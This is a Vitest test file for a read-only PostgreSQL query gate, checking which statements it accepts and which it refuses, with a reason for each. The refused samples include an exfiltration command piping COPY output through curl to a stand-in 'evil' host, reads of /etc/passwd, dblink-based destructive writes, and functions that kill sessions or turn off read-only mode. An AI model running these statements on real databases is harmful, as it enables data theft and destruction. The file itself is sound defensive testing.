import { describe, expect, it } from 'vitest'
import {
  assertReadStatement,
  MAX_GATED_SQL_CHARS,
  readRefusal,
} from '../../../../src/main/engine/db/sql-gate'
import { deniedFunction } from '../../../../src/main/engine/db/read-statement-rules'
import { appErrorFrom } from '../../../support/app-error'

/**
 * The read-only SQL gate (SEC-12) with the real PostgreSQL parser: what it lets through, and each
 * kind of statement it refuses, with a reason that names what was found.
 */
describe('the SQL gate accepts single reads', () => {
  it.each([
    'SELECT 1',
    'select count(*)::int AS n FROM "v1"."couchdb" WHERE doc->>\'type\' = $1',
    'VALUES (1, 2), (3, 4)',
    'TABLE public.couchdb',
    'SELECT 1 UNION ALL SELECT 2 EXCEPT SELECT 3',
    'WITH recent AS (SELECT * FROM couchdb LIMIT 10) SELECT count(*) FROM recent',
    'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n',
    'EXPLAIN SELECT * FROM couchdb',
    'EXPLAIN (ANALYZE false, COSTS off) SELECT 1',
    'EXPLAIN (ANALYZE 0) SELECT 1',
    'SELECT pg_sleep(0.1)',
    "SELECT current_setting('server_version'), has_table_privilege(c.oid, 'SELECT') FROM pg_class c",
    'SELECT (SELECT count(*) FROM a) AS c0, (SELECT count(*) FROM b) AS c1',
    '  SELECT 1 ; ',
    '/* a comment */ SELECT 1 -- another',
  ])('%s', async (sql) => {
    expect(await readRefusal(sql)).toBeNull()
    await expect(assertReadStatement(sql)).resolves.toBeUndefined()
  })
})

describe('the SQL gate refuses, naming what it found', () => {
  it.each([
    ['SELECT 1; SELECT 2', /only one statement.*holds 2/i],
    ['SELECT 1; DROP TABLE couchdb', /holds 2/],
    ['', /no statement/],
    ['-- only a comment', /no statement/],
    ['SELEC 1', /could not be parsed: syntax error/],
    ['SELECT * INTO copy FROM couchdb', /SELECT … INTO creates a table/],
    ['WITH gone AS (DELETE FROM couchdb RETURNING *) SELECT count(*) FROM gone', /holds DELETE/],
    ['WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM x', /holds INSERT/],
    ['WITH x AS (UPDATE t SET a = 1 RETURNING 1) SELECT * FROM x', /holds UPDATE/],
    ['SELECT * FROM couchdb FOR UPDATE', /locks rows \(FOR UPDATE\)/],
    ['SELECT * FROM (SELECT * FROM t FOR SHARE) s', /locks rows \(FOR SHARE\)/],
    ['SELECT 1 FROM t FOR NO KEY UPDATE SKIP LOCKED', /FOR NO KEY UPDATE/],
    ['INSERT INTO t VALUES (1)', /found INSERT/],
    ['UPDATE t SET a = 1', /found UPDATE/],
    ['DELETE FROM t', /found DELETE/],
    ['MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE', /found MERGE/],
    ['COPY couchdb TO STDOUT', /found COPY\./],
    ["COPY couchdb TO PROGRAM 'curl -d @- http://evil'", /found COPY … PROGRAM/],
    ['BEGIN', /transaction control \(BEGIN\)/],
    ['BEGIN READ WRITE', /transaction control \(BEGIN\)/],
    ['START TRANSACTION READ WRITE', /transaction control \(START TRANSACTION\)/],
    ['COMMIT', /transaction control \(COMMIT\)/],
    ['ROLLBACK', /transaction control \(ROLLBACK\)/],
    ['SAVEPOINT s', /SAVEPOINT/],
    ['SET TRANSACTION READ WRITE', /transaction control \(SET TRANSACTION\)/],
    ['SET transaction_read_only = off', /found SET transaction_read_only/],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', /found SET|transaction control/],
    ['RESET ALL', /found RESET/],
    ['RESET default_transaction_read_only', /found RESET default_transaction_read_only/],
    ['DO $$ BEGIN DELETE FROM t; END $$', /found DO/],
    ['CALL cleanup()', /found CALL/],
    ['LISTEN jobs', /found LISTEN/],
    ["NOTIFY jobs, 'x'", /found NOTIFY/],
    ['SHOW server_version', /found SHOW/],
    ['DROP TABLE couchdb', /found DROP/],
    ['CREATE TABLE x (a int)', /found CREATE TABLE/],
    ['CREATE TABLE x AS SELECT 1', /found CREATE TABLE … AS/],
    ['TRUNCATE couchdb', /found TRUNCATE/],
    ['VACUUM couchdb', /found VACUUM/],
    ['EXPLAIN ANALYZE SELECT 1', /EXPLAIN ANALYZE runs the statement/],
    ['EXPLAIN (ANALYZE) DELETE FROM t', /EXPLAIN ANALYZE/],
    ['EXPLAIN (ANALYZE true) SELECT 1', /EXPLAIN ANALYZE/],
    ['EXPLAIN (ANALYZE 1) SELECT 1', /EXPLAIN ANALYZE/],
    ['EXPLAIN (ANALYZE on) SELECT 1', /EXPLAIN ANALYZE/],
    ['EXPLAIN DELETE FROM t', /found EXPLAIN of DELETE/],
    ['EXPLAIN SELECT 1 FROM t FOR UPDATE', /locks rows/],
    ["SELECT set_config('default_transaction_read_only', 'off', false)", /set_config\(\)/],
    ["SELECT pg_catalog.set_config('a', 'b', true)", /set_config\(\), which changes settings/],
    ['SELECT pg_terminate_backend(42)', /pg_terminate_backend\(\), which ends other sessions/],
    ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', /pg_cancel_backend/],
    ['SELECT pg_reload_conf()', /pg_reload_conf/],
    ['SELECT pg_advisory_lock(1)', /pg_advisory_lock\(\), which takes or releases/],
    ['SELECT pg_try_advisory_xact_lock(1)', /pg_try_advisory_xact_lock/],
    ["SELECT lo_import('/etc/passwd')", /lo_import/],
    ["SELECT pg_read_file('/etc/passwd')", /pg_read_file\(\), which reads the server’s files/],
    ["SELECT pg_read_binary_file('x')", /pg_read_binary_file/],
    ["SELECT * FROM pg_ls_dir('.')", /pg_ls_dir/],
    ["SELECT pg_stat_file('postgresql.conf')", /pg_stat_file/],
    ["SELECT pg_notify('jobs', 'x')", /pg_notify/],
    ['SELECT txid_current()', /txid_current\(\), which assigns a transaction id/],
    ['SELECT pg_current_xact_id()', /pg_current_xact_id/],
    ["SELECT nextval('s')", /nextval\(\), which advances a sequence/],
    ["SELECT setval('s', 1)", /setval/],
    ["SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", /dblink\(\), which opens/],
    ["SELECT dblink_exec('host=x', 'DROP TABLE t')", /dblink_exec/],
    ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", /query_to_xml/],
    ["SELECT (SELECT NEXTVAL('s')) AS hidden", /nextval|NEXTVAL/],
    ['SELECT 1 WHERE EXISTS (SELECT pg_terminate_backend(1))', /pg_terminate_backend/],
  ])('%s', async (sql, reason) => {
    const refusal = await readRefusal(sql)
    expect(refusal).toMatch(reason)
    const error = await appErrorFrom(assertReadStatement(sql))
    expect(error.code).toBe('SQL_REFUSED')
    expect(error.message).toBe(refusal)
  })

  it('refuses SQL longer than the limit without parsing it', async () => {
    const sql = `SELECT ${'1 + '.repeat(MAX_GATED_SQL_CHARS / 4)}1`
    expect(await readRefusal(sql)).toMatch(/characters long; at most 100,000/)
  })

  it('gives the same verdict from its cache', async () => {
    const sql = 'SELECT pg_terminate_backend(7)'
    const first = await readRefusal(sql)
    expect(await readRefusal(sql)).toBe(first)
    expect(await readRefusal('SELECT 7')).toBeNull()
  })

  it('survives a deeply nested statement', async () => {
    const depth = 2_000
    const sql = `SELECT ${'('.repeat(depth)}1${')'.repeat(depth)}`
    // Either the parser's own depth limit refuses it, or the iterative walk accepts it.
    const refusal = await readRefusal(sql)
    expect(refusal === null || /could not be parsed/.test(refusal)).toBe(true)
  })
})

describe('deniedFunction', () => {
  it('matches names case-insensitively, by exact name and by prefix', () => {
    expect(deniedFunction('Set_Config')).toMatch(/changes settings/)
    expect(deniedFunction('pg_advisory_unlock_all')).toMatch(/advisory/)
    expect(deniedFunction('lo_unlink')).toMatch(/large objects/)
    expect(deniedFunction('count')).toBeNull()
    expect(deniedFunction('current_setting')).toBeNull()
    expect(deniedFunction('pg_sleep')).toBeNull()
  })
})
